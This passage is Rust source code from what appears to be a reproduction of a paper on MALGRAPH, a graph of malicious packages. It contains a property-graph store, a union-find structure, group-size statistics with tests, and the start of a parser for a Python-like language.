    pub fn from_sizes(sizes: impl IntoIterator<Item = usize>) -> GroupCensus {
        let mut sizes: Vec<usize> = sizes.into_iter().collect();
        sizes.sort_unstable_by(|a, b| b.cmp(a));
        let group_count = sizes.len();
        let total: usize = sizes.iter().sum();
        GroupCensus {
            group_count,
            avg_size: if group_count == 0 {
                0.0
            } else {
                total as f64 / group_count as f64
            },
            max_size: sizes.first().copied().unwrap_or(0),
            sizes,
        }
    }

    /// Empirical CDF of group sizes as `(size, fraction ≤ size)` points,
    /// the series behind Fig. 4 and Fig. 9.
    pub fn size_cdf(&self) -> Vec<(usize, f64)> {
        if self.sizes.is_empty() {
            return Vec::new();
        }
        let mut ascending = self.sizes.clone();
        ascending.sort_unstable();
        let n = ascending.len() as f64;
        let mut out: Vec<(usize, f64)> = Vec::new();
        for (i, &s) in ascending.iter().enumerate() {
            let frac = (i + 1) as f64 / n;
            match out.last_mut() {
                Some(last) if last.0 == s => last.1 = frac,
                _ => out.push((s, frac)),
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::PropertyGraph;

    #[test]
    fn relation_stats_count_incident_nodes_only() {
        let mut g: PropertyGraph<(), u8> = PropertyGraph::new();
        let a = g.add_node(());
        let b = g.add_node(());
        let _lonely = g.add_node(());
        g.add_undirected_edge(a, b, 1);
        let stats = RelationStats::compute(&g, |&l| l == 1);
        assert_eq!(stats.nodes, 2);
        assert_eq!(stats.edges, 2);
        assert!((stats.avg_out_degree - 1.0).abs() < 1e-9);
        assert_eq!(stats.avg_out_degree, stats.avg_in_degree);
    }

    #[test]
    fn compute_many_matches_per_label_compute() {
        let mut g: PropertyGraph<(), u8> = PropertyGraph::new();
        let ids: Vec<_> = (0..6).map(|_| g.add_node(())).collect();
        g.add_undirected_edge(ids[0], ids[1], 1);
        g.add_undirected_edge(ids[1], ids[2], 1);
        g.add_edge(ids[3], ids[4], 2);
        g.add_undirected_edge(ids[4], ids[5], 3);
        let labels = [1u8, 2, 3, 4];
        let many = RelationStats::compute_many(&g, &labels);
        for (slot, &label) in labels.iter().enumerate() {
            assert_eq!(
                many[slot],
                RelationStats::compute(&g, |&l| l == label),
                "label {label}"
            );
        }
    }

    #[test]
    fn empty_relation_has_zero_stats() {
        let g: PropertyGraph<(), u8> = PropertyGraph::new();
        let stats = RelationStats::compute(&g, |_| true);
        assert_eq!(stats.nodes, 0);
        assert_eq!(stats.edges, 0);
        assert_eq!(stats.avg_out_degree, 0.0);
    }

    #[test]
    fn clique_degree_matches_table2_shape() {
        // A clique of n nodes has n(n-1) directed edges and average
        // degree n-1 — exactly how Table II's DG numbers arise.
        let mut g: PropertyGraph<(), u8> = PropertyGraph::new();
        let ids: Vec<_> = (0..5).map(|_| g.add_node(())).collect();
        for i in 0..5 {
            for j in (i + 1)..5 {
                g.add_undirected_edge(ids[i], ids[j], 1);
            }
        }
        let stats = RelationStats::compute(&g, |&l| l == 1);
        assert_eq!(stats.nodes, 5);
        assert_eq!(stats.edges, 20);
        assert!((stats.avg_out_degree - 4.0).abs() < 1e-9);
    }

    #[test]
    fn census_summary() {
        let comps = vec![vec![1, 2, 3], vec![4, 5], vec![6]];
        let census = GroupCensus::from_components(&comps);
        assert_eq!(census.group_count, 3);
        assert_eq!(census.max_size, 3);
        assert!((census.avg_size - 2.0).abs() < 1e-9);
        assert_eq!(census.sizes, vec![3, 2, 1]);
    }

    #[test]
    fn empty_census() {
        let census = GroupCensus::from_components::<u8>(&[]);
        assert_eq!(census.group_count, 0);
        assert_eq!(census.avg_size, 0.0);
        assert_eq!(census.max_size, 0);
        assert!(census.size_cdf().is_empty());
    }

    #[test]
    fn cdf_is_monotone_and_ends_at_one() {
        let comps = vec![vec![0; 1], vec![0; 1], vec![0; 3], vec![0; 10]];
        let census = GroupCensus::from_components(&comps);
        let cdf = census.size_cdf();
        assert_eq!(cdf.first().unwrap().0, 1);
        assert!((cdf.last().unwrap().1 - 1.0).abs() < 1e-9);
        for pair in cdf.windows(2) {
            assert!(pair[0].0 < pair[1].0);
            assert!(pair[0].1 <= pair[1].1);
        }
        // 2 of 4 groups have size 1 → CDF(1) = 0.5.
        assert!((cdf[0].1 - 0.5).abs() < 1e-9);
    }
}
