//! An in-memory property-graph store — the reproduction's Neo4j.
//!
//! The paper stores MALGRAPH in Neo4j (§III-C) and uses it for exactly
//! three things: keeping nodes with attributes, keeping typed edges, and
//! extracting connected subgraphs per edge type (§III-B). This crate
//! provides those capabilities as a generic store:
//!
//! * [`PropertyGraph<N, L>`] — nodes carry an arbitrary payload `N`,
//!   edges carry a label `L` (MALGRAPH uses its four relation types);
//! * [`PropertyGraph::components`] — connected components restricted to a
//!   label subset, computed with a union-find ([`unionfind`]);
//! * [`stats`] — node/edge counts and degree averages (paper Table II);
//! * [`dot`] — Graphviz export for Fig.-3-style group renderings.
//!
//! # Examples
//!
//! ```
//! use graphstore::PropertyGraph;
//!
//! let mut g: PropertyGraph<&str, &str> = PropertyGraph::new();
//! let a = g.add_node("colorslib");
//! let b = g.add_node("httpslib");
//! g.add_undirected_edge(a, b, "coexist");
//! let comps = g.components(|l| *l == "coexist");
//! assert_eq!(comps.len(), 1);
//! assert_eq!(comps[0].len(), 2);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod dot;
pub mod index;
pub mod stats;
pub mod unionfind;

use std::fmt;
use std::hash::Hash;

/// Identifier of a node within one [`PropertyGraph`].
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash,
)]
pub struct NodeId(u32);

impl NodeId {
    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }

    /// Crate-internal inverse of [`NodeId::index`]; only index structures
    /// derived from an existing graph may mint ids.
    pub(crate) fn from_index(i: usize) -> NodeId {
        NodeId(u32::try_from(i).expect("graph too large"))
    }
}

impl fmt::Display for NodeId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "n{}", self.0)
    }
}

/// A directed, labeled edge.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Edge<L> {
    /// Source node.
    pub from: NodeId,
    /// Target node.
    pub to: NodeId,
    /// Edge label (relation type).
    pub label: L,
}

/// A directed multigraph with node payloads and labeled edges.
///
/// Symmetric relations (duplicated / similar / co-existing in MALGRAPH)
/// are stored as a pair of directed edges via
/// [`PropertyGraph::add_undirected_edge`]; the paper's Table II counts
/// degrees the same way (average in-degree equals average out-degree for
/// every relation graph).
#[derive(Debug, Clone)]
pub struct PropertyGraph<N, L> {
    nodes: Vec<N>,
    out_adj: Vec<Vec<(NodeId, L)>>,
    in_adj: Vec<Vec<(NodeId, L)>>,
    edge_count: usize,
}

impl<N, L> Default for PropertyGraph<N, L> {
    fn default() -> Self {
        Self::new()
    }
}

impl<N, L> PropertyGraph<N, L> {
    /// Creates an empty graph.
    pub fn new() -> Self {
        PropertyGraph {
            nodes: Vec::new(),
            out_adj: Vec::new(),
            in_adj: Vec::new(),
            edge_count: 0,
        }
    }

    /// Adds a node and returns its id.
    pub fn add_node(&mut self, payload: N) -> NodeId {
        let id = NodeId(u32::try_from(self.nodes.len()).expect("graph too large"));
        self.nodes.push(payload);
        self.out_adj.push(Vec::new());
        self.in_adj.push(Vec::new());
        id
    }

    /// Number of nodes.
    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }

    /// Number of directed edges.
    pub fn edge_count(&self) -> usize {
        self.edge_count
    }

    /// Payload of `id`.
    ///
    /// # Panics
    ///
    /// Panics if `id` is not a node of this graph.
    pub fn node(&self, id: NodeId) -> &N {
        &self.nodes[id.index()]
    }

    /// Mutable payload of `id`.
    ///
    /// # Panics
    ///
    /// Panics if `id` is not a node of this graph.
    pub fn node_mut(&mut self, id: NodeId) -> &mut N {
        &mut self.nodes[id.index()]
    }

    /// Iterates `(id, payload)` pairs.
    pub fn nodes(&self) -> impl Iterator<Item = (NodeId, &N)> {
        self.nodes
            .iter()
            .enumerate()
            .map(|(i, n)| (NodeId(i as u32), n))
    }

    /// All node ids.
    pub fn node_ids(&self) -> impl Iterator<Item = NodeId> {
        (0..self.nodes.len() as u32).map(NodeId)
    }

    /// Finds the first node whose payload satisfies `pred`.
    pub fn find_node(&self, pred: impl FnMut(&N) -> bool) -> Option<NodeId> {
        self.nodes
            .iter()
            .position(pred)
            .map(|i| NodeId(i as u32))
    }
}

impl<N, L: Copy + Eq> PropertyGraph<N, L> {
    /// Adds one directed edge.
    ///
    /// # Panics
    ///
    /// Panics if either endpoint is not a node of this graph.
    pub fn add_edge(&mut self, from: NodeId, to: NodeId, label: L) {
        assert!(from.index() < self.nodes.len(), "unknown source node");
        assert!(to.index() < self.nodes.len(), "unknown target node");
        self.out_adj[from.index()].push((to, label));
        self.in_adj[to.index()].push((from, label));
        self.edge_count += 1;
    }

    /// Adds a symmetric relation as two directed edges.
    ///
    /// # Panics
    ///
    /// Panics if either endpoint is unknown or `a == b` (MALGRAPH
    /// relations are irreflexive).
    pub fn add_undirected_edge(&mut self, a: NodeId, b: NodeId, label: L) {
        assert_ne!(a, b, "relations are irreflexive");
        self.add_edge(a, b, label);
        self.add_edge(b, a, label);
    }

    /// Appends a batch of symmetric relations — the resulting adjacency
    /// lists are element-for-element identical to calling
    /// [`PropertyGraph::add_undirected_edge`] on each pair in order.
    ///
    /// Bulk loads (millions of similar pairs scattered across tens of
    /// thousands of adjacency rows) are dominated not by the element
    /// stores but by the per-push `Vec` length/capacity bookkeeping:
    /// four row headers per pair, far too many to stay cache-resident.
    /// This path counts each node's added degree first, writes the new
    /// entries through dense insertion cursors into one staging buffer,
    /// and then extends each touched row once. A node's appended
    /// `(peer, label)` sequence is the same for its out- and in-rows —
    /// each pair `(a, b)` appends `(b, label)` to both rows of `a` and
    /// `(a, label)` to both rows of `b` — so one staging run serves
    /// both tables.
    ///
    /// # Panics
    ///
    /// Panics if any endpoint is unknown or any `a == b`; every pair is
    /// validated before the first write, so a panicking call leaves the
    /// graph untouched.
    pub fn add_undirected_edges<I>(&mut self, pairs: I, label: L)
    where
        I: Iterator<Item = (NodeId, NodeId)> + Clone,
    {
        let n = self.nodes.len();
        let mut added: Vec<u32> = vec![0; n];
        let mut pair_count = 0usize;
        for (a, b) in pairs.clone() {
            assert_ne!(a, b, "relations are irreflexive");
            assert!(a.index() < n, "unknown source node");
            assert!(b.index() < n, "unknown target node");
            added[a.index()] += 1;
            added[b.index()] += 1;
            pair_count += 1;
        }
        let mut cursors: Vec<usize> = Vec::with_capacity(n);
        let mut total = 0usize;
        for &d in &added {
            cursors.push(total);
            total += d as usize;
        }
        let offsets = cursors.clone();
        let mut staging: Vec<(NodeId, L)> = vec![(NodeId(0), label); total];
        for (a, b) in pairs {
            staging[cursors[a.index()]] = (b, label);
            cursors[a.index()] += 1;
            staging[cursors[b.index()]] = (a, label);
            cursors[b.index()] += 1;
        }
        for x in 0..n {
            let d = added[x] as usize;
            if d > 0 {
                let run = &staging[offsets[x]..offsets[x] + d];
                self.out_adj[x].extend_from_slice(run);
                self.in_adj[x].extend_from_slice(run);
            }
        }
        self.edge_count += 2 * pair_count;
    }

    /// Removes every edge while keeping all nodes (and the adjacency
    /// lists' allocations, so re-adding a similar edge set does not
    /// reallocate). The incremental ingestion path uses this to re-emit
    /// the edge stages over a grown corpus without rebuilding nodes.
    pub fn clear_edges(&mut self) {
        for adj in &mut self.out_adj {
            adj.clear();
        }
        for adj in &mut self.in_adj {
            adj.clear();
        }
        self.edge_count = 0;
    }

    /// Outgoing `(target, label)` pairs of `id`.
    ///
    /// # Panics
    ///
    /// Panics if `id` is not a node of this graph.
    pub fn out_edges(&self, id: NodeId) -> &[(NodeId, L)] {
        &self.out_adj[id.index()]
    }

    /// Incoming `(source, label)` pairs of `id`.
    ///
    /// # Panics
    ///
    /// Panics if `id` is not a node of this graph.
    pub fn in_edges(&self, id: NodeId) -> &[(NodeId, L)] {
        &self.in_adj[id.index()]
    }

    /// Out-degree of `id` counting only edges whose label passes `filter`.
    pub fn out_degree_by(&self, id: NodeId, mut filter: impl FnMut(&L) -> bool) -> usize {
        self.out_adj[id.index()]
            .iter()
            .filter(|(_, l)| filter(l))
            .count()
    }

    /// In-degree of `id` counting only edges whose label passes `filter`.
    pub fn in_degree_by(&self, id: NodeId, mut filter: impl FnMut(&L) -> bool) -> usize {
        self.in_adj[id.index()]
            .iter()
            .filter(|(_, l)| filter(l))
            .count()
    }

    /// Whether an edge `from → to` with `label` exists.
    pub fn has_edge(&self, from: NodeId, to: NodeId, label: L) -> bool {
        self.out_adj[from.index()]
            .iter()
            .any(|&(t, l)| t == to && l == label)
    }

    /// Iterates every directed edge.
    pub fn edges(&self) -> impl Iterator<Item = Edge<L>> + '_ {
        self.out_adj.iter().enumerate().flat_map(|(i, adj)| {
            adj.iter().map(move |&(to, label)| Edge {
                from: NodeId(i as u32),
                to,
                label,
            })
        })
    }

    /// Number of directed edges whose label passes `filter`.
    pub fn edge_count_by(&self, mut filter: impl FnMut(&L) -> bool) -> usize {
        self.out_adj
            .iter()
            .flat_map(|adj| adj.iter())
            .filter(|(_, l)| filter(l))
            .count()
    }

    /// Connected components over the subgraph of edges whose label passes
    /// `filter`, **including only nodes incident to at least one such
    /// edge**. This matches the paper's subgraph semantics: Table II's
    /// "DG has 2,475 nodes" counts packages that participate in at least
    /// one duplicated relation, not the whole corpus.
    ///
    /// Components are returned sorted by ascending minimum node id, nodes
    /// within a component sorted ascending.
    pub fn components(&self, mut filter: impl FnMut(&L) -> bool) -> Vec<Vec<NodeId>> {
        let mut uf = unionfind::UnionFind::new(self.nodes.len());
        let mut touched = vec![false; self.nodes.len()];
        for (i, adj) in self.out_adj.iter().enumerate() {
            for (to, label) in adj {
                if filter(label) {
                    uf.union(i, to.index());
                    touched[i] = true;
                    touched[to.index()] = true;
                }
            }
        }
        let mut groups: std::collections::BTreeMap<usize, Vec<NodeId>> =
            std::collections::BTreeMap::new();
        for (i, &is_touched) in touched.iter().enumerate() {
            if is_touched {
                groups
                    .entry(uf.find(i))
                    .or_default()
                    .push(NodeId(i as u32));
            }
        }
        groups.into_values().collect()
    }

    /// Nodes reachable from `start` via edges whose label passes
    /// `filter`, including `start` itself (BFS). Used by the Fig.-3
    /// neighbourhood rendering and as the baseline in the union-find
    /// ablation bench.
    ///
    /// # Panics
    ///
    /// Panics if `start` is not a node of this graph.
    pub fn reachable(&self, start: NodeId, mut filter: impl FnMut(&L) -> bool) -> Vec<NodeId> {
        assert!(start.index() < self.nodes.len(), "unknown start node");
        let mut seen = vec![false; self.nodes.len()];
        let mut queue = std::collections::VecDeque::new();
        seen[start.index()] = true;
        queue.push_back(start);
        let mut out = Vec::new();
        while let Some(cur) = queue.pop_front() {
            out.push(cur);
            for (next, label) in &self.out_adj[cur.index()] {
                if filter(label) && !seen[next.index()] {
                    seen[next.index()] = true;
                    queue.push_back(*next);
                }
            }
        }
        out.sort_unstable();
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Rel {
        Dup,
        Dep,
    }

    fn diamond() -> (PropertyGraph<u32, Rel>, Vec<NodeId>) {
        let mut g = PropertyGraph::new();
        let ids: Vec<NodeId> = (0..4).map(|i| g.add_node(i)).collect();
        g.add_undirected_edge(ids[0], ids[1], Rel::Dup);
        g.add_undirected_edge(ids[1], ids[2], Rel::Dup);
        g.add_edge(ids[3], ids[0], Rel::Dep);
        (g, ids)
    }

    #[test]
    fn node_and_edge_counts() {
        let (g, _) = diamond();
        assert_eq!(g.node_count(), 4);
        assert_eq!(g.edge_count(), 5); // 2 undirected = 4 directed, + 1
        assert_eq!(g.edge_count_by(|l| *l == Rel::Dup), 4);
        assert_eq!(g.edge_count_by(|l| *l == Rel::Dep), 1);
    }

    #[test]
    fn clear_edges_keeps_nodes_and_allows_reemission() {
        let (mut g, ids) = diamond();
        g.clear_edges();
        assert_eq!(g.node_count(), 4);
        assert_eq!(g.edge_count(), 0);
        for &id in &ids {
            assert!(g.out_edges(id).is_empty());
            assert!(g.in_edges(id).is_empty());
        }
        // Re-emitting the same edge sequence restores the same shape.
        g.add_undirected_edge(ids[0], ids[1], Rel::Dup);
        g.add_undirected_edge(ids[1], ids[2], Rel::Dup);
        g.add_edge(ids[3], ids[0], Rel::Dep);
        let (fresh, _) = diamond();
        for &id in &ids {
            assert_eq!(g.out_edges(id), fresh.out_edges(id));
            assert_eq!(g.in_edges(id), fresh.in_edges(id));
        }
        assert_eq!(g.edge_count(), fresh.edge_count());
    }

    #[test]
    fn batch_append_matches_per_edge_loop() {
        // Same pair sequence through both paths, on graphs that already
        // carry edges (the batch must append after them, not reorder).
        let (mut batch, ids) = diamond();
        let (mut loop_, _) = diamond();
        let pairs = [
            (ids[0], ids[2]),
            (ids[2], ids[0]), // reverse orientation is a distinct append
            (ids[0], ids[2]), // repeats allowed: this is a multigraph
            (ids[3], ids[1]),
        ];
        batch.add_undirected_edges(pairs.iter().copied(), Rel::Dup);
        for &(a, b) in &pairs {
            loop_.add_undirected_edge(a, b, Rel::Dup);
        }
        for &id in &ids {
            assert_eq!(batch.out_edges(id), loop_.out_edges(id));
            assert_eq!(batch.in_edges(id), loop_.in_edges(id));
        }
        assert_eq!(batch.edge_count(), loop_.edge_count());
        // An empty batch is a no-op.
        batch.add_undirected_edges(std::iter::empty(), Rel::Dep);
        assert_eq!(batch.edge_count(), loop_.edge_count());
    }

    #[test]
    #[should_panic(expected = "irreflexive")]
    fn batch_append_rejects_self_edges_before_writing() {
        let (mut g, ids) = diamond();
        g.add_undirected_edges([(ids[0], ids[0])].iter().copied(), Rel::Dup);
    }

    #[test]
    fn payload_access_and_mutation() {
        let (mut g, ids) = diamond();
        assert_eq!(*g.node(ids[2]), 2);
        *g.node_mut(ids[2]) = 99;
        assert_eq!(*g.node(ids[2]), 99);
    }

    #[test]
    fn components_respect_label_filter() {
        let (g, ids) = diamond();
        let dup = g.components(|l| *l == Rel::Dup);
        assert_eq!(dup, vec![vec![ids[0], ids[1], ids[2]]]);
        let dep = g.components(|l| *l == Rel::Dep);
        assert_eq!(dep, vec![vec![ids[0], ids[3]]]);
        let all = g.components(|_| true);
        assert_eq!(all.len(), 1);
        assert_eq!(all[0].len(), 4);
    }

    #[test]
    fn isolated_nodes_are_not_components() {
        let mut g: PropertyGraph<(), Rel> = PropertyGraph::new();
        g.add_node(());
        g.add_node(());
        assert!(g.components(|_| true).is_empty());
    }

    #[test]
    fn degrees() {
        let (g, ids) = diamond();
        assert_eq!(g.out_degree_by(ids[1], |l| *l == Rel::Dup), 2);
        assert_eq!(g.in_degree_by(ids[1], |l| *l == Rel::Dup), 2);
        assert_eq!(g.out_degree_by(ids[3], |l| *l == Rel::Dep), 1);
        assert_eq!(g.in_degree_by(ids[3], |l| *l == Rel::Dep), 0);
    }

    #[test]
    fn has_edge_is_directional() {
        let (g, ids) = diamond();
        assert!(g.has_edge(ids[3], ids[0], Rel::Dep));
        assert!(!g.has_edge(ids[0], ids[3], Rel::Dep));
        assert!(g.has_edge(ids[0], ids[1], Rel::Dup));
        assert!(g.has_edge(ids[1], ids[0], Rel::Dup));
    }

    #[test]
    fn reachable_bfs() {
        let (g, ids) = diamond();
        let r = g.reachable(ids[0], |l| *l == Rel::Dup);
        assert_eq!(r, vec![ids[0], ids[1], ids[2]]);
        // Directed Dep edge: 3 reaches 0..2 via Dep+Dup, 0 cannot reach 3.
        let r = g.reachable(ids[0], |_| true);
        assert_eq!(r.len(), 3);
        let r = g.reachable(ids[3], |_| true);
        assert_eq!(r.len(), 4);
    }

    #[test]
    #[should_panic(expected = "irreflexive")]
    fn self_loop_rejected() {
        let mut g: PropertyGraph<(), Rel> = PropertyGraph::new();
        let a = g.add_node(());
        g.add_undirected_edge(a, a, Rel::Dup);
    }

    #[test]
    #[should_panic(expected = "unknown target node")]
    fn dangling_edge_rejected() {
        let mut g: PropertyGraph<(), Rel> = PropertyGraph::new();
        let a = g.add_node(());
        g.add_edge(a, NodeId(7), Rel::Dup);
    }

    #[test]
    fn find_node_by_payload() {
        let (g, ids) = diamond();
        assert_eq!(g.find_node(|&n| n == 3), Some(ids[3]));
        assert_eq!(g.find_node(|&n| n == 42), None);
    }

    #[test]
    fn edges_iterator_yields_all_directed_edges() {
        let (g, _) = diamond();
        assert_eq!(g.edges().count(), 5);
        assert_eq!(g.edges().filter(|e| e.label == Rel::Dep).count(), 1);
    }
}
