//! Disjoint-set (union-find) with path halving and union by size.

/// A disjoint-set forest over `0..n`.
///
/// # Examples
///
/// ```
/// use graphstore::unionfind::UnionFind;
///
/// let mut uf = UnionFind::new(4);
/// uf.union(0, 1);
/// uf.union(2, 3);
/// assert!(uf.connected(0, 1));
/// assert!(!uf.connected(1, 2));
/// assert_eq!(uf.component_count(), 2);
/// ```
#[derive(Debug, Clone)]
pub struct UnionFind {
    parent: Vec<usize>,
    size: Vec<usize>,
    components: usize,
}

impl UnionFind {
    /// Creates `n` singleton sets.
    pub fn new(n: usize) -> Self {
        UnionFind {
            parent: (0..n).collect(),
            size: vec![1; n],
            components: n,
        }
    }

    /// Number of elements.
    pub fn len(&self) -> usize {
        self.parent.len()
    }

    /// Grows the universe to `n` elements; the new elements
    /// `len()..n` start as singleton sets. Existing sets are untouched,
    /// so growing then unioning is indistinguishable from having built
    /// `UnionFind::new(n)` and replaying the same union sequence — the
    /// property the incremental ingestion path relies on. A `n` at or
    /// below the current length is a no-op.
    pub fn grow(&mut self, n: usize) {
        for i in self.parent.len()..n {
            self.parent.push(i);
            self.size.push(1);
            self.components += 1;
        }
    }

    /// Whether the structure is empty.
    pub fn is_empty(&self) -> bool {
        self.parent.is_empty()
    }

    /// Representative of `x`'s set (path halving).
    ///
    /// # Panics
    ///
    /// Panics if `x >= len()`.
    pub fn find(&mut self, mut x: usize) -> usize {
        while self.parent[x] != x {
            self.parent[x] = self.parent[self.parent[x]];
            x = self.parent[x];
        }
        x
    }

    /// Merges the sets of `a` and `b`; returns `true` if they were
    /// previously disjoint.
    ///
    /// # Panics
    ///
    /// Panics if either index is out of range.
    pub fn union(&mut self, a: usize, b: usize) -> bool {
        let (mut ra, mut rb) = (self.find(a), self.find(b));
        if ra == rb {
            return false;
        }
        if self.size[ra] < self.size[rb] {
            std::mem::swap(&mut ra, &mut rb);
        }
        self.parent[rb] = ra;
        self.size[ra] += self.size[rb];
        self.components -= 1;
        true
    }

    /// Whether `a` and `b` are in the same set.
    pub fn connected(&mut self, a: usize, b: usize) -> bool {
        self.find(a) == self.find(b)
    }

    /// Size of the set containing `x`.
    pub fn component_size(&mut self, x: usize) -> usize {
        let r = self.find(x);
        self.size[r]
    }

    /// Number of disjoint sets.
    pub fn component_count(&self) -> usize {
        self.components
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fresh_sets_are_singletons() {
        let mut uf = UnionFind::new(3);
        assert_eq!(uf.component_count(), 3);
        for i in 0..3 {
            assert_eq!(uf.find(i), i);
            assert_eq!(uf.component_size(i), 1);
        }
    }

    #[test]
    fn union_merges_and_reports() {
        let mut uf = UnionFind::new(4);
        assert!(uf.union(0, 1));
        assert!(!uf.union(1, 0), "already merged");
        assert!(uf.union(1, 2));
        assert_eq!(uf.component_count(), 2);
        assert_eq!(uf.component_size(0), 3);
        assert!(uf.connected(0, 2));
        assert!(!uf.connected(0, 3));
    }

    #[test]
    fn transitive_chains() {
        let mut uf = UnionFind::new(100);
        for i in 0..99 {
            uf.union(i, i + 1);
        }
        assert_eq!(uf.component_count(), 1);
        assert!(uf.connected(0, 99));
        assert_eq!(uf.component_size(42), 100);
    }

    #[test]
    fn grow_matches_fresh_structure_under_the_same_unions() {
        let pairs = [(0, 1), (2, 3), (1, 2), (5, 7), (4, 5)];
        let mut grown = UnionFind::new(4);
        for &(a, b) in &pairs[..2] {
            grown.union(a, b);
        }
        grown.grow(8);
        for &(a, b) in &pairs[2..] {
            grown.union(a, b);
        }
        let mut fresh = UnionFind::new(8);
        for &(a, b) in &pairs {
            fresh.union(a, b);
        }
        assert_eq!(grown.component_count(), fresh.component_count());
        for i in 0..8 {
            assert_eq!(grown.find(i), fresh.find(i), "root of {i}");
            assert_eq!(grown.component_size(i), fresh.component_size(i));
        }
        grown.grow(3); // shrink request is a no-op
        assert_eq!(grown.len(), 8);
    }

    #[test]
    fn empty_structure() {
        let uf = UnionFind::new(0);
        assert!(uf.is_empty());
        assert_eq!(uf.component_count(), 0);
    }

    #[test]
    #[should_panic]
    fn out_of_range_panics() {
        let mut uf = UnionFind::new(2);
        uf.find(5);
    }
}
