//! Recursive-descent parser for PyLite.

use crate::ast::{BinOp, Expr, Module, Stmt, UnaryOp};
use crate::lexer::{lex, LexError, SpannedToken, Token};
use std::fmt;

/// A parse (or lex) error.
#[derive(Debug, Clone, PartialEq)]
pub struct ParseErr {
    /// 1-based source line.
    pub line: usize,
    /// Description of the problem.
    pub message: String,
}

impl fmt::Display for ParseErr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "parse error at line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for ParseErr {}

impl From<LexError> for ParseErr {
    fn from(err: LexError) -> Self {
        ParseErr {
            line: err.line,
            message: err.message,
        }
    }
}

const KEYWORDS: [&str; 18] = [
    "def", "return", "if", "elif", "else", "for", "while", "in", "import", "from", "as", "try",
    "except", "raise", "pass", "not", "and", "or",
];

/// Parses PyLite source into a [`Module`].
///
/// # Errors
///
/// Returns [`ParseErr`] on any lexical or syntactic problem, carrying the
/// 1-based source line.
///
/// # Examples
///
/// ```
/// use minilang::parse;
///
/// let m = parse("import os\nx = os.getenv('PATH')\n")?;
/// assert_eq!(m.body.len(), 2);
/// # Ok::<(), minilang::ParseErr>(())
/// ```
pub fn parse(source: &str) -> Result<Module, ParseErr> {
    let tokens = lex(source)?;
    let mut parser = Parser { tokens, pos: 0 };
    let body = parser.parse_block_until_eof()?;
    Ok(Module::new(body))
}

struct Parser {
    tokens: Vec<SpannedToken>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> &Token {
        &self.tokens[self.pos].token
    }

    fn line(&self) -> usize {
        self.tokens[self.pos].line
    }

    fn bump(&mut self) -> Token {
        // Take the token out of its slot instead of cloning it — the
        // cursor never moves backwards, so the slot is never re-read
        // (the final slot stays `Eof` either way).
        let t = std::mem::replace(&mut self.tokens[self.pos].token, Token::Eof);
        if self.pos + 1 < self.tokens.len() {
            self.pos += 1;
        }
        t
    }

    fn err(&self, message: impl Into<String>) -> ParseErr {
        ParseErr {
            line: self.line(),
            message: message.into(),
        }
    }

    fn expect_op(&mut self, op: &'static str) -> Result<(), ParseErr> {
        match self.peek() {
            Token::Op(found) if *found == op => {
                self.bump();
                Ok(())
            }
            other => Err(self.err(format!("expected {op:?}, found {other}"))),
        }
    }

    fn expect_newline(&mut self) -> Result<(), ParseErr> {
        match self.peek() {
            Token::Newline => {
                self.bump();
                Ok(())
            }
            other => Err(self.err(format!("expected end of line, found {other}"))),
        }
    }

    fn eat_keyword(&mut self, kw: &str) -> bool {
        if let Token::Ident(name) = self.peek() {
            if name == kw {
                self.bump();
                return true;
            }
        }
        false
    }

    fn at_keyword(&self, kw: &str) -> bool {
        matches!(self.peek(), Token::Ident(name) if name == kw)
    }

    fn expect_ident(&mut self) -> Result<String, ParseErr> {
        match self.peek() {
            Token::Ident(name) if !KEYWORDS.contains(&name.as_str()) => {
                let name = name.clone();
                self.bump();
                Ok(name)
            }
            other => Err(self.err(format!("expected identifier, found {other}"))),
        }
    }

    fn parse_block_until_eof(&mut self) -> Result<Vec<Stmt>, ParseErr> {
        let mut body = Vec::new();
        while !matches!(self.peek(), Token::Eof) {
            body.push(self.parse_stmt()?);
        }
        Ok(body)
    }

    /// Parses `: NEWLINE INDENT stmt+ DEDENT`.
    fn parse_suite(&mut self) -> Result<Vec<Stmt>, ParseErr> {
        self.expect_op(":")?;
        self.expect_newline()?;
        match self.peek() {
            Token::Indent => {
                self.bump();
            }
            other => return Err(self.err(format!("expected an indented block, found {other}"))),
        }
        let mut body = Vec::new();
        while !matches!(self.peek(), Token::Dedent | Token::Eof) {
            body.push(self.parse_stmt()?);
        }
        if matches!(self.peek(), Token::Dedent) {
            self.bump();
        }
        if body.is_empty() {
            return Err(self.err("empty block"));
        }
        Ok(body)
    }

    fn parse_stmt(&mut self) -> Result<Stmt, ParseErr> {
        if self.at_keyword("import") {
            return self.parse_import();
        }
        if self.at_keyword("from") {
            return self.parse_from_import();
        }
        if self.at_keyword("def") {
            return self.parse_def();
        }
        if self.at_keyword("if") {
            return self.parse_if();
        }
        if self.at_keyword("for") {
            return self.parse_for();
        }
        if self.at_keyword("while") {
            return self.parse_while();
        }
        if self.at_keyword("try") {
            return self.parse_try();
        }
        if self.eat_keyword("return") {
            let value = if matches!(self.peek(), Token::Newline) {
                None
            } else {
                Some(self.parse_expr()?)
            };
            self.expect_newline()?;
            return Ok(Stmt::Return(value));
        }
        if self.eat_keyword("raise") {
            let value = self.parse_expr()?;
            self.expect_newline()?;
            return Ok(Stmt::Raise(value));
        }
        if self.eat_keyword("pass") {
            self.expect_newline()?;
            return Ok(Stmt::Pass);
        }

        // Assignment or expression statement.
        let first = self.parse_expr()?;
        if matches!(self.peek(), Token::Op("=")) {
            self.bump();
            match &first {
                Expr::Name(_) | Expr::Attribute { .. } | Expr::Index { .. } => {}
                _ => return Err(self.err("invalid assignment target")),
            }
            let value = self.parse_expr()?;
            self.expect_newline()?;
            return Ok(Stmt::Assign {
                target: first,
                value,
            });
        }
        self.expect_newline()?;
        Ok(Stmt::Expr(first))
    }

    fn parse_import(&mut self) -> Result<Stmt, ParseErr> {
        self.bump(); // import
